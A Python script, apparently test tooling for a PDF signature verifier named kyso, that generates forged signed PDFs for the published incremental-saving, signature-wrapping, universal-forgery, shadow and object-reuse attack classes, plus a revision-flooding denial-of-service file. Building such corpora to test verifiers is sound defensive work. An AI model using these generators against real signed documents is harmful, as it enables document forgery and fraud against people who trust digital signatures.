#!/usr/bin/env python3
"""Builds kyso's attack corpus from PDFs signed at test time (stdlib only).

  make_attacks.py shadow-base IN.pdf OUT.pdf
      IN plus one unsigned update that prepares invisible content for the shadow attacks:
      an empty form XObject drawn by page 1 (/KysoX1), an unused replacement XObject, a
      hidden square annotation, an optional-content layer switched off, a filled text field.
  make_attacks.py attacks SIGNED.pdf SHADOW_SIGNED.pdf OUTDIR
      One file per attack, named for its class (Mladenov et al., "1 Trillion Dollar Refund",
      and Mainka et al., "Shadow Attacks"): isa_* incremental saving, wrapping_* signature
      wrapping, usf_* universal signature forgery, shadow_* hide / replace / hide-and-replace.
"""
import os
import re
import sys

WS = b" \t\r\n\f\0"


def skip_ws(data, i):
    while i < len(data) and data[i] in WS:
        i += 1
    return i


def value_end(data, i):
    """End of the PDF value starting at data[i] (after white space)."""
    i = skip_ws(data, i)
    if data.startswith(b"<<", i):
        depth, i = 1, i + 2
        while depth:
            if data.startswith(b"<<", i):
                depth, i = depth + 1, i + 2
            elif data.startswith(b">>", i):
                depth, i = depth - 1, i + 2
            elif data[i:i + 1] in (b"(", b"[", b"<"):  # strings may hold ">>"
                i = value_end(data, i)
            else:
                i += 1
        return i
    c = data[i:i + 1]
    if c == b"[":
        i += 1
        while True:
            i = skip_ws(data, i)
            if data[i:i + 1] == b"]":
                return i + 1
            i = value_end(data, i)
    if c == b"(":
        depth, i = 1, i + 1
        while depth:
            if data[i:i + 1] == b"\\":
                i += 2
                continue
            depth += {b"(": 1, b")": -1}.get(data[i:i + 1], 0)
            i += 1
        return i
    if c == b"<":
        return data.index(b">", i) + 1
    if c == b"/":
        i += 1
        while i < len(data) and data[i] not in WS and data[i:i + 1] not in b"/[]<>()":
            i += 1
        return i
    m = re.compile(rb"[-+.\d]+(\s+\d+\s+R)?|true|false|null").match(data, i)
    return m.end()


def find_key(dict_text, key):
    """(start of value, end of value) of /key at the top level of a dictionary, or None."""
    i = dict_text.index(b"<<") + 2
    while True:
        i = skip_ws(dict_text, i)
        if dict_text.startswith(b">>", i):
            return None
        name_end = value_end(dict_text, i)
        name = dict_text[i + 1:name_end]
        start = skip_ws(dict_text, name_end)
        end = value_end(dict_text, start)
        if name == key:
            return start, end
        i = end


def get(dict_text, key):
    span = find_key(dict_text, key)
    return None if span is None else dict_text[span[0]:span[1]]


def put(dict_text, key, value):
    span = find_key(dict_text, key)
    if span is None:
        at = dict_text.index(b"<<") + 2
        return dict_text[:at] + b"/" + key + b" " + value + b" " + dict_text[at:]
    return dict_text[:span[0]] + value + dict_text[span[1]:]


def ref_number(value):
    m = re.fullmatch(rb"\s*(\d+)\s+\d+\s+R\s*", value or b"")
    return int(m.group(1)) if m else None


class Pdf:
    """The newest state of a PDF with classic cross-reference tables."""

    def __init__(self, data):
        self.data = data
        self.offsets = {}
        self.startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
        at, self.trailer = self.startxref, None
        while at is not None:
            assert data.startswith(b"xref", at), "classic xref tables only"
            i = at + 4
            while True:
                i = skip_ws(data, i)
                if data.startswith(b"trailer", i):
                    break
                m = re.compile(rb"(\d+)\s+(\d+)").match(data, i)
                first, count = int(m.group(1)), int(m.group(2))
                i = m.end()
                for k in range(count):
                    e = re.compile(rb"\s*(\d{10}) (\d{5}) ([nf])").match(data, i)
                    i = e.end()
                    if e.group(3) == b"n":
                        self.offsets.setdefault(first + k, int(e.group(1)))
            t_start = skip_ws(data, i + 7)
            trailer = data[t_start:value_end(data, t_start)]
            self.trailer = self.trailer or trailer
            prev = get(trailer, b"Prev")
            at = int(prev) if prev else None
        self.size = int(get(self.trailer, b"Size"))

    def obj(self, n):
        """The object's text between "n g obj" and "endobj" (streams included)."""
        m = re.compile(rb"\d+\s+\d+\s+obj").match(self.data, self.offsets[n])
        return self.data[m.end():self.data.index(b"endobj", m.end())].strip()

    def resolve(self, value):
        n = ref_number(value)
        return self.obj(n) if n is not None else value

    def root(self):
        return ref_number(get(self.trailer, b"Root"))

    def first_page(self):
        node = ref_number(get(self.obj(self.root()), b"Pages"))
        while get(self.obj(node), b"Type").strip() != b"/Page":
            kids = self.resolve(get(self.obj(node), b"Kids"))
            node = int(re.search(rb"(\d+)\s+\d+\s+R", kids).group(1))
        return node


def update(pdf, objects, root=None):
    """`pdf`'s bytes plus an incremental update writing `objects` {number: text}; `root`: another /Root."""
    out = bytearray(pdf.data)
    if not out.endswith(b"\n"):
        out += b"\n"
    where = {}
    for n, text in sorted(objects.items()):
        where[n] = len(out)
        out += b"%d 0 obj\n" % n + text + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for n in sorted(where):
        out += b"%d 1\n%010d 00000 n \n" % (n, where[n])
    trailer = b"<</Size %d/Root %s/Prev %d" % (max([pdf.size] + [n + 1 for n in where]),
                                                root or get(pdf.trailer, b"Root"), pdf.startxref)
    for key in (b"Info", b"ID"):
        if get(pdf.trailer, key):
            trailer += b"/" + key + b" " + get(pdf.trailer, key)
    out += b"trailer\n" + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(dict_entries, content):
    return b"<<" + dict_entries + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


def with_array_item(pdf, holder_text, key, item, objects, holder_number):
    """Appends `item` to the array at `key` (direct or indirect); returns the new holder text."""
    value = get(holder_text, key)
    n = ref_number(value)
    if n is not None:
        array = objects.get(n, pdf.obj(n))
        objects[n] = array[:array.rindex(b"]")] + b" " + item + b"]"
        return holder_text
    array = value if value else b"[]"
    return put(holder_text, key, array[:array.rindex(b"]")] + b" " + item + b"]")


def form_holder(pdf, objects):
    """(number, text) of the object holding /Fields: the AcroForm or the catalog."""
    root = pdf.root()
    catalog = objects.get(root, pdf.obj(root))
    n = ref_number(get(catalog, b"AcroForm"))
    if n is not None:
        return n, objects.get(n, pdf.obj(n))
    if get(catalog, b"AcroForm") is None:
        catalog = put(catalog, b"AcroForm", b"<</Fields []>>")
    return root, catalog


def add_field(pdf, objects, widget_number, widget_text, page):
    objects[widget_number] = widget_text
    page_text = objects.get(page, pdf.obj(page))
    objects[page] = with_array_item(pdf, page_text, b"Annots", b"%d 0 R" % widget_number, objects, page)
    holder, text = form_holder(pdf, objects)
    if holder == pdf.root():
        form = get(text, b"AcroForm")
        form = with_array_item(pdf, form, b"Fields", b"%d 0 R" % widget_number, objects, None)
        objects[holder] = put(text, b"AcroForm", form)
    else:
        objects[holder] = with_array_item(pdf, text, b"Fields", b"%d 0 R" % widget_number, objects, holder)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
FORGED = b"1 0 0 rg 60 620 420 90 re f BT 0 g /KF 28 Tf 80 655 Td (DA BI SUA SAU KHI KY) Tj ET"


def resources_with(pdf, objects, page, kind, name, ref):
    """Puts /name ref into page's /Resources /kind (inline or indirect resources)."""
    page_text = objects.get(page, pdf.obj(page))
    res = get(page_text, b"Resources")
    n = ref_number(res)
    res_text = objects.get(n, pdf.obj(n)) if n is not None else res
    sub = get(res_text, kind)
    sub = pdf.resolve(sub) if sub is not None else b"<<>>"
    sub = put(sub, name, ref)
    res_text = put(res_text, kind, sub)
    if n is not None:
        objects[n] = res_text
    else:
        objects[page] = put(page_text, b"Resources", res_text)


def shadow_base(data):
    pdf = Pdf(data)
    page = pdf.first_page()
    n = pdf.size
    x1, x2, ocg, extra, annot, annot_ap, field, field_ap = range(n, n + 8)
    # Object reuse: kyso's number field (fillable after signing) whose /AP dictionary is the
    # page's own XObject dictionary; a catalog with a forged page tree that nothing uses yet.
    number_field, alt_catalog, alt_pages, alt_page, alt_content = range(n + 8, n + 13)
    objects = {
        x1: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]", b""),
        x2: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</KF " + FONT + b">>>>", FORGED),
        ocg: b"<</Type/OCG/Name(An)>>",
        extra: stream(b"", b"q /KysoX1 Do Q /OC /KysoOC BDC 0 0 1 rg 60 520 420 60 re f EMC"),
        annot_ap: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 420 90]/Resources<</Font<</KF " + FONT + b">>>>",
                         b"1 1 1 rg 0 0 420 90 re f BT 1 0 0 rg /KF 24 Tf 10 35 Td (NOI DUNG THAY THE) Tj ET"),
        field_ap: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</KF " + FONT + b">>>>",
                         b"BT 0 g /KF 10 Tf 2 6 Td (Ban goc) Tj ET"),
    }
    page_text = pdf.obj(page)
    contents = get(page_text, b"Contents").strip()
    items = contents[1:-1] if contents.startswith(b"[") else contents
    objects[page] = put(page_text, b"Contents", b"[" + items + b" %d 0 R]" % extra)
    resources_with(pdf, objects, page, b"XObject", b"KysoX1", b"%d 0 R" % x1)
    resources_with(pdf, objects, page, b"Properties", b"KysoOC", b"%d 0 R" % ocg)
    shared_ap = share_xobjects(pdf, objects, page, b"/N %d 0 R" % x1)
    page_text = objects.get(page, pdf.obj(page))
    objects[alt_content] = stream(b"", FORGED)
    objects[alt_page] = put(put(put(page_text, b"Parent", b"%d 0 R" % alt_pages), b"Contents", b"%d 0 R" % alt_content),
                            b"Resources", b"<</Font<</KF " + FONT + b">>>>")
    objects[alt_pages] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % alt_page
    # Hidden (/F 2) until an update clears the flag: "hide" by revealing an overlay.
    page_annot = (b"<</Type/Annot/Subtype/Square/F 2/Rect[60 620 480 710]/C[1 1 1]/P %d 0 R"
                  b"/AP<</N %d 0 R>>>>" % (page, annot_ap))
    objects[annot] = page_annot
    page_text = objects[page]
    objects[page] = with_array_item(pdf, page_text, b"Annots", b"%d 0 R" % annot, objects, page)
    widget = (b"<</Type/Annot/Subtype/Widget/FT/Tx/T(ghi_chu_noi_bo)/V(Ban goc)/F 4/Rect[60 40 260 60]"
              b"/P %d 0 R/AP<</N %d 0 R>>>>" % (page, field_ap))
    add_field(pdf, objects, field, widget, page)
    add_field(pdf, objects, number_field, b"<</Type/Annot/Subtype/Widget/FT/Tx/T(kyso_so)/F 4/Rect[300 40 360 60]"
                                          b"/P %d 0 R/AP %d 0 R>>" % (page, shared_ap), page)
    root = pdf.root()
    catalog = objects.get(root, pdf.obj(root))
    objects[root] = put(catalog, b"OCProperties", b"<</OCGs[%d 0 R]/D<</OFF[%d 0 R]>>>>" % (ocg, ocg))
    form = get(objects[root], b"AcroForm")
    if ref_number(form) is None:  # shared by both catalogs, so the signature shows in either
        objects[alt_content + 1] = form
        objects[root] = put(objects[root], b"AcroForm", b"%d 0 R" % (alt_content + 1))
    objects[alt_catalog] = put(objects[root], b"Pages", b"%d 0 R" % alt_pages)
    return update(pdf, objects)


def share_xobjects(pdf, objects, page, extra):
    """Makes the page's /Resources /XObject an indirect dictionary holding `extra` too; its number."""
    page_text = objects.get(page, pdf.obj(page))
    res = get(page_text, b"Resources")
    n = ref_number(res)
    res_text = objects.get(n, pdf.obj(n)) if n is not None else res
    xobjects = pdf.resolve(get(res_text, b"XObject")).strip()
    shared = max([pdf.size] + list(objects)) + 20
    objects[shared] = xobjects[:-2] + extra + b">>"
    res_text = put(res_text, b"XObject", b"%d 0 R" % shared)
    if n is not None:
        objects[n] = res_text
    else:
        objects[page] = put(page_text, b"Resources", res_text)
    return shared


def sig_dict_span(data):
    """(start, end) of the last signature dictionary's text: from /ByteRange's "<<" to its ">>"."""
    at = data.rindex(b"/ByteRange")
    start = data.rindex(b"<<", 0, at)
    return start, value_end(data, start)


def same_length(old, new):
    assert len(new) <= len(old), (old, new)
    return new + b" " * (len(old) - len(new))


def in_place(data, key, new_value_fn):
    """Replaces the value of /key in the last signature dictionary, keeping every offset."""
    start, end = sig_dict_span(data)
    text = data[start:end]
    if new_value_fn is None:  # rename the key: it is then missing
        i = text.index(b"/" + key)
        text = text[:i] + b"/X" + key[1:] + text[i + len(key) + 1:]
    else:
        s, e = find_key(text, key)
        text = text[:s] + same_length(text[s:e], new_value_fn(text[s:e])) + text[e:]
    return data[:start] + text + data[end:]


def byte_range(data):
    start, end = sig_dict_span(data)
    return [int(v) for v in re.findall(rb"-?\d+", get(data[start:end], b"ByteRange"))]


def attacks(signed, shadow):
    out = {}
    pdf = Pdf(signed)
    page = pdf.first_page()
    page_text = pdf.obj(page)
    first_content = int(re.search(rb"(\d+)\s+\d+\s+R", get(page_text, b"Contents")).group(1))
    forged_content = stream(b"/Resources<</Font<</KF " + FONT + b">>>>", FORGED)

    # Incremental saving attacks.
    n = pdf.size
    objects = {n: stream(b"", FORGED), n + 1: FONT}
    objects[page] = put(put(page_text, b"Contents", b"%d 0 R" % n), b"Resources",
                        b"<</Font<</KF %d 0 R>>>>" % (n + 1))
    out["isa_new_content_with_xref"] = update(pdf, objects)
    redefinition = b"\n%d 0 obj\n" % first_content + stream(b"", FORGED) + b"\nendobj\n"
    out["isa_redefined_content_without_xref"] = signed + redefinition
    out["isa_redefined_content_old_startxref"] = signed + redefinition + b"startxref\n%d\n%%%%EOF\n" % pdf.startxref
    objects = {n: b"<</Type/Annot/Subtype/FreeText/Rect[60 620 480 710]/DA(/Helv 24 Tf 1 0 0 rg)/C[1 1 1]"
                  b"/Contents(DA BI SUA)/P %d 0 R/AP<</N %d 0 R>>>>" % (page, n + 1),
               n + 1: stream(b"/Type/XObject/Subtype/Form/BBox[60 620 480 710]/Resources<</Font<</KF " + FONT +
                             b">>>>", b"1 1 1 rg 60 620 420 90 re f " + FORGED)}
    objects[page] = with_array_item(pdf, page_text, b"Annots", b"%d 0 R" % n, objects, page)
    out["isa_overlay_annotation"] = update(pdf, objects)

    # Revisions are the %%EOF markers after a startxref that names a cross-reference section
    # (issue 11): a marker alone, or one inside a stream, must not make a revision whose
    # redefinitions escape the hidden-definition check.
    root = pdf.root()
    out["isa_redefined_content_eof_without_startxref"] = signed + redefinition + b"%%EOF\n"
    out["isa_redefined_content_eof_then_update"] = update(Pdf(signed + redefinition + b"%%EOF\n"),
                                                          {root: pdf.obj(root)})
    with_marker = Pdf(signed + redefinition)
    out["isa_redefined_content_eof_in_stream"] = update(with_marker, {n: stream(b"", b"%% note\n%%EOF\n")})
    # Each revision is parsed again when verifying: markers naming a real section, by the thousand.
    markers = b"startxref\n%d\n%%%%EOF\n" % pdf.startxref * 2000
    out["dos_more_revisions_than_any_document"] = update(pdf, {n: stream(b"", markers)})

    # Signature wrapping.
    ends = [m.end() for m in re.finditer(rb"%%EOF\r?\n?", signed)]
    out["wrapping_duplicated_signed_revision"] = signed + signed[ends[-2]:ends[-1]]
    r = byte_range(signed)
    # The part after /Contents moves to the end; forged objects take its place.
    malicious = b"\n%d 0 obj\n" % first_content + stream(b"", FORGED) + b"\nendobj\n"
    head, tail = signed[:r[2]], signed[r[2]:r[2] + r[3]]
    moved_at = len(head) + len(malicious)
    moved = head + malicious + tail
    out["wrapping_moved_signed_part"] = in_place(
        moved, b"ByteRange", lambda old: b"[0 %d %d %d]" % (r[1], moved_at, r[3]))
    sig_start, sig_end = sig_dict_span(signed)
    sig_number = int(re.findall(rb"(\d+)\s+\d+\s+obj", signed[:sig_start])[-1])
    sig_text = signed[sig_start:sig_end]
    objects = {sig_number: put(sig_text, b"M", b"(D:20300101000000+07'00')"), n: stream(b"", FORGED)}
    objects[page] = put(page_text, b"Contents", b"%d 0 R" % n)
    out["wrapping_byterange_skips_appended"] = update(pdf, objects)

    # Universal signature forgery: the signature dictionary edited in place.
    out["usf_contents_empty"] = in_place(signed, b"Contents", lambda old: b"<>")
    out["usf_contents_zero_filled"] = in_place(signed, b"Contents", lambda old: b"<" + b"0" * (len(old) - 2) + b">")
    out["usf_contents_missing"] = in_place(signed, b"Contents", None)
    out["usf_byterange_missing"] = in_place(signed, b"ByteRange", None)
    out["usf_byterange_overlapping"] = in_place(signed, b"ByteRange",
                                                lambda old: b"[0 %d %d %d]" % (r[1], r[1] - 100, r[3] + 100))
    out["usf_byterange_negative"] = in_place(signed, b"ByteRange", lambda old: b"[0 -1 %d %d]" % (r[2], r[3]))
    out["usf_byterange_outside_file"] = in_place(signed, b"ByteRange",
                                                 lambda old: b"[0 %d %d %d]" % (r[1], r[2], r[3] + 1000000))
    objects = {n + 1: put(sig_text, b"Name", b"(Gia mao)")}
    add_field(pdf, objects, n, b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature9)/F 4/Rect[0 0 0 0]/P %d 0 R"
                               b"/V %d 0 R>>" % (page, n + 1), page)
    out["usf_second_signature_reuses_contents"] = update(pdf, objects)

    # Shadow attacks on a document prepared before signing (shadow_base).
    pdf = Pdf(shadow)
    page = pdf.first_page()
    page_text = pdf.obj(page)
    numbers = {}
    for number in pdf.offsets:
        try:
            text = pdf.obj(number)
        except (ValueError, AttributeError):
            continue
        if b"/Subtype/Square" in text:
            numbers["annot"] = number
        elif b"(ghi_chu_noi_bo)" in text:
            numbers["field"] = number
        elif b"DA BI SUA SAU KHI KY" in text:
            numbers["x2"] = number
        elif b"(kyso_so)" in text:
            numbers["number_field"] = number
        elif b"/OCProperties" in text and number != pdf.root():
            numbers["alt_catalog"] = number
    res = get(page_text, b"Resources")
    res_text = pdf.resolve(res)
    x1 = ref_number(get(pdf.resolve(get(res_text, b"XObject")), b"KysoX1"))
    annot = numbers["annot"]
    out["shadow_hide_annotation_revealed"] = update(pdf, {annot: put(pdf.obj(annot), b"F", b"4")})
    out["shadow_replace_xobject_redefined"] = update(pdf, {x1: pdf.obj(numbers["x2"])})
    objects = {}
    resources_with(pdf, objects, page, b"XObject", b"KysoX1", b"%d 0 R" % numbers["x2"])
    out["shadow_hide_and_replace_reference_swap"] = update(pdf, objects)
    root = pdf.root()
    out["shadow_hide_ocg_switched_on"] = update(pdf, {root: put(pdf.obj(root), b"OCProperties",
                                                                  put(get(pdf.obj(root), b"OCProperties"), b"D",
                                                                      b"<</OFF[]>>"))})
    n = pdf.size
    field = numbers["field"]
    # Object reuse: a fill that is allowed for the field's /AP but also changes what the page draws.
    number_field = pdf.obj(numbers["number_field"])
    shared_ap = ref_number(get(number_field, b"AP"))
    out["reuse_widget_ap_is_page_xobject"] = update(pdf, {x1: pdf.obj(numbers["x2"])})
    out["reuse_ap_dictionary_shared_with_page"] = update(pdf, {
        shared_ap: put(pdf.obj(shared_ap), b"KysoX1", b"%d 0 R" % numbers["x2"]),
        numbers["number_field"]: put(number_field, b"V", b"(7)")})
    out["reuse_trailer_redirects_root"] = update(pdf, {}, root=b"%d 0 R" % numbers["alt_catalog"])
    out["shadow_replace_form_value"] = update(pdf, {
        field: put(put(pdf.obj(field), b"V", b"(Da sua)"), b"AP", b"<</N %d 0 R>>" % n),
        n: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</KF " + FONT + b">>>>",
                  b"BT 0 g /KF 10 Tf 2 6 Td (Da sua) Tj ET")})
    return out


def main(argv):
    if len(argv) == 4 and argv[1] == "shadow-base":
        with open(argv[2], "rb") as f:
            data = f.read()
        with open(argv[3], "wb") as f:
            f.write(shadow_base(data))
        return 0
    if len(argv) == 5 and argv[1] == "attacks":
        with open(argv[2], "rb") as f:
            signed = f.read()
        with open(argv[3], "rb") as f:
            shadow = f.read()
        os.makedirs(argv[4], exist_ok=True)
        for name, data in attacks(signed, shadow).items():
            with open(os.path.join(argv[4], name + ".pdf"), "wb") as f:
                f.write(data)
            print(name)
        return 0
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
